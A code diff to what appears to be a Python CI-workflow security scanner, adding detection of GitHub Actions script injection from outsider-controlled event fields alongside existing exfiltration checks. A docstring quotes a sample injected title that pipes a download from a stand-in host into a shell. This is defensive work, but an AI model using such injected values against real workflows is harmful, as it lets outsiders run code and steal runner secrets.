@@ -223,6 +223,12 @@ def ci_keep(run: Run, code: Field, owner: str, span: tuple[int, int],
     """Classify a CI step's shell code; keep what it finds only when it sends secrets
     away or opens a reverse shell, a secret variable in a request to a foreign host
     included (module doc). True when kept."""
+    if "${{" in code.text and ("github.event" in code.text or "head_ref" in code.text):
+        field = untrusted_expression(code.text)
+        if field is not None:
+            run.add("shell.deferred-exec", span, f"{owner} runs ${{{{ {field} }}}} as shell "
+                    "code: text that whoever opens an issue or pull request chooses (script "
+                    "injection; pass it through an env: variable instead)", None)
     findings, commands = len(run.findings), len(run.commands)
     run.run_code(Field(ci_template(code.text, secret_vars), code.span, code.taint), owner,
                  span, None, positional=[])
@@ -240,6 +246,26 @@ def ci_keep(run: Run, code: Field, owner: str, span: tuple[int, int],
     run.add("shell.exfiltration", span, f"{owner} sends a secret variable to a host that is "
             "not its service: a CI runner's secrets leave with it", leak.detail)
     return True
+
+
+# GitHub event fields an outsider writes: an issue's or pull request's title and body, a
+# branch name, commit messages and authors, comments, reviews, wiki page names.
+_UNTRUSTED_ENDS = (".title", ".body", ".message", ".head.ref", ".head.label", ".head_branch",
+                   ".default_branch", ".page_name", ".author.email", ".author.name")
+
+
+def untrusted_expression(text: str) -> str | None:
+    """The first ``${{ ... }}`` expression of a workflow step that puts text an outsider
+    chooses into the step's shell code (``github.event.issue.title``, ``github.head_ref``):
+    the runner pastes it in before the shell parses the step, so a title like ``"; curl
+    e.example | sh #`` runs (GitHub's script-injection advice)."""
+    for m in _EXPR.finditer(text):
+        expr = m.group(1).strip()
+        for part in expr.replace("(", " ").replace(")", " ").replace(",", " ").split():
+            if part == "github.head_ref" or (part.startswith("github.event.") and
+                                              part.endswith(_UNTRUSTED_ENDS)):
+                return expr
+    return None
 
 
 def _foreign(message: str, detail: str, code: str) -> bool:
